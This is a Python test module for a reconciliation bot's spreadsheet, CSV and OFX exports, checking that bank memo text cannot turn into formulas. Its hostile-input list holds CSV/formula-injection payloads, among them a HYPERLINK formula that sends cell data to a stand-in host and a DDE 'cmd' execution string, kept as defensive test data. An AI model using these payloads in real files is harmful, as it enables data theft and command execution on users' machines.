"""Exports are opened by programs that calculate: no word of a bank or a customer may become a formula there."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.reports.files import FileKind, write
from bot.reports.tables import tidy
from bot.texts.monthly import COLUMNS
from core.domain.statements import LineState
from core.domain.views import LedgerBalance
from core.services.importing import memo_key
from core.sources.ofx.balances import states_balance
from core.sources.ofx.reader import read_ofx
from core.sources.ofx.texts import clean
from tests.builders import a_line
from tests.reports.months import COMPANY, a_book, a_row, an_outcome

ZONE = "America/Sao_Paulo"
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://mal.example/?"&A1,"clique")',
    "=cmd|'/C calc'!A0",
    "+55 11 99999-0000",
    "-10+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "%=1",
    "|cmd",
    'a;b";=1+1;"c',
    "a\r\n=1+1",
    "\x00=1",
    "\ud83d",
    "\ufffe=1",
    "😀 =1+1",
    "&lt;=1 & </STMTTRN><b>",
    "ção Ãƒ ﬁm",
    "x" * 40_000,
)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def sheet_of(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).worksheets[0]


def hostile_book(text: str) -> Any:
    line = a_line("-1.234,56", text, company_id=COMPANY, state=LineState.RECONCILED)
    return a_book(a_row(line, an_outcome(text), name=text))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_no_text_becomes_a_formula_in_a_spreadsheet(text: str) -> None:
    made = write(hostile_book(text), FileKind.XLSX, ZONE)
    for row in sheet_of(made.data).iter_rows(min_row=2):
        texts = [cell for cell in row if isinstance(cell.value, str)]
        assert len(texts) >= (8 if tidy(text) else 1)
        assert {cell.data_type for cell in texts} == {"s"}
        for cell in texts:
            assert cell.quotePrefix or cell.value.lstrip()[:1] not in set("=+-@|%＝＋－＠")
        assert row[2].value == pytest.approx(-1234.56)
        assert row[2].data_type == "n"


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_no_text_becomes_a_formula_in_a_csv(text: str) -> None:
    rows = read_csv(write(hostile_book(text), FileKind.CSV, ZONE).data)
    assert [len(row) for row in rows] == [len(COLUMNS)] * 2
    for name, cell in zip(COLUMNS, rows[1], strict=True):
        if name not in {"Valor", "Valor combinado", "Diferença"}:
            assert cell.strip()[:1] not in set("=+-@|%＝＋－＠\t\r\n")
    assert rows[1][2] == "-1234,56"


def test_bank_text_is_kept_word_for_word_where_it_is_harmless() -> None:
    memo = "PIX RECEBIDO JOSÉ D'ÁVILA & CIA; NF 10"
    book = a_book(a_row(a_line("1,00", memo, company_id=COMPANY)))
    assert read_csv(write(book, FileKind.CSV, ZONE).data)[1][3] == memo
    assert sheet_of(write(book, FileKind.XLSX, ZONE).data)["D2"].value == memo


def test_days_amounts_and_moments_are_numbers_a_spreadsheet_can_add() -> None:
    line = a_line("480,00", company_id=COMPANY, state=LineState.RECONCILED)
    sheet = sheet_of(write(a_book(a_row(line, an_outcome())), FileKind.XLSX, ZONE).data)
    told = {str(head.value): cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
    assert tuple(told) == COLUMNS
    assert told["Data"].value == datetime(2026, 7, 12)  # noqa: DTZ001 - cells have no zone
    assert told["Data"].number_format == "dd/mm/yyyy"
    assert (told["Valor"].value, told["Valor combinado"].value, told["Diferença"].value) == (480, 450, 30)
    assert told["Decidido em"].value == datetime(2026, 7, 12, 23, 30)  # noqa: DTZ001 - as the company's clock said
    assert told["Situação"].value == "conciliado"
    assert told["Comentários"].value == 0


def test_csv_opens_in_a_brazilian_excel() -> None:
    line = a_line("1.234.567,08", company_id=COMPANY, state=LineState.RECONCILED)
    book = a_book(a_row(line, an_outcome(alone=True, transfer=True, entries=(), covered_cents=5)))
    head, row = read_csv(write(book, FileKind.CSV, ZONE).data)
    told = dict(zip(head, row, strict=True))
    assert (told["Data"], told["Valor"], told["Valor combinado"]) == ("12/07/2026", "1234567,08", "0,05")
    assert told["Decidido em"] == "12/07/2026 23:30"
    assert told["Decidido por"] == "Venda 1042 (automático)"
    assert told["Lançamento"] == "Transferência entre contas próprias"


def test_open_line_says_pending_and_claims_nothing() -> None:
    row = read_csv(write(a_book(a_row()), FileKind.CSV, ZONE).data)[1]
    assert row[4:] == ["pendente", *[""] * 8, "0"]


@pytest.mark.parametrize("kind", list(FileKind))
def test_same_books_give_the_same_bytes(kind: FileKind) -> None:
    book = hostile_book("=1+1")
    first, second = write(book, kind, ZONE), write(book, kind, ZONE)
    assert first == second
    assert first.name.endswith(f"2026-07.{kind.value}")


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_ofx_holds_hostile_texts_as_texts(text: str) -> None:
    made = write(hostile_book(text), FileKind.OFX, ZONE)
    read = read_ofx(made.data)
    assert [(one.posted_on, one.amount_cents) for one in read.accounts[0].lines] == [
        (date(2026, 7, 12), -1_234_56)
    ]
    assert read.problems == ()


def test_ofx_states_only_balances_the_bank_stated() -> None:
    row = a_row(a_line("10,00", company_id=COMPANY, posted_on=date(2026, 7, 12)))
    book = a_book(row)
    assert read_ofx(write(book, FileKind.OFX, ZONE).data).accounts[0].ledger_balance_cents is None
    stated = LedgerBalance(
        row.account.id, date(2026, 7, 31), 8_214_00
    )  # whole reais: Itaú's misprint must not bite
    read = read_ofx(write(replace(book, stated=(stated,)), FileKind.OFX, ZONE).data)
    assert (read.accounts[0].ledger_balance_cents, read.accounts[0].ledger_balance_on) == (
        8_214_00,
        date(2026, 7, 31),
    )
    early = LedgerBalance(row.account.id, date(2026, 7, 11), 8_214_00)
    told = read_ofx(write(replace(book, stated=(early,)), FileKind.OFX, ZONE).data).accounts[0]
    assert told.ledger_balance_cents is None
    assert not told.lines[0].scheduled


def test_month_of_positive_debits_keeps_its_signs() -> None:
    """A reader gives debits their sign where a bank writes none: our export must never look like such a file."""
    lines = [a_line("10,00", "ESTORNO", company_id=COMPANY, type="DEBIT"), a_line("0,00", company_id=COMPANY)]
    read = read_ofx(write(a_book(*map(a_row, lines)), FileKind.OFX, ZONE).data)
    assert [one.amount_cents for account in read.accounts for one in account.lines] == [10_00, 0]


@given(st.text(max_size=60))
@settings(max_examples=300, deadline=None)
def test_any_text_is_the_same_line_when_it_comes_back(memo: str) -> None:
    """A line is known by its folded text: whatever the export did to it must not make it another."""
    stored = clean(memo)  # as a reader left it
    assume(
        not states_balance(stored)
    )  # a reader takes such a row for the bank's balance, so no line is called that
    read = read_ofx(write(a_book(a_row(a_line("1,00", stored, company_id=COMPANY))), FileKind.OFX, ZONE).data)
    assert [memo_key(one.memo) for one in read.accounts[0].lines] == [memo_key(stored)]
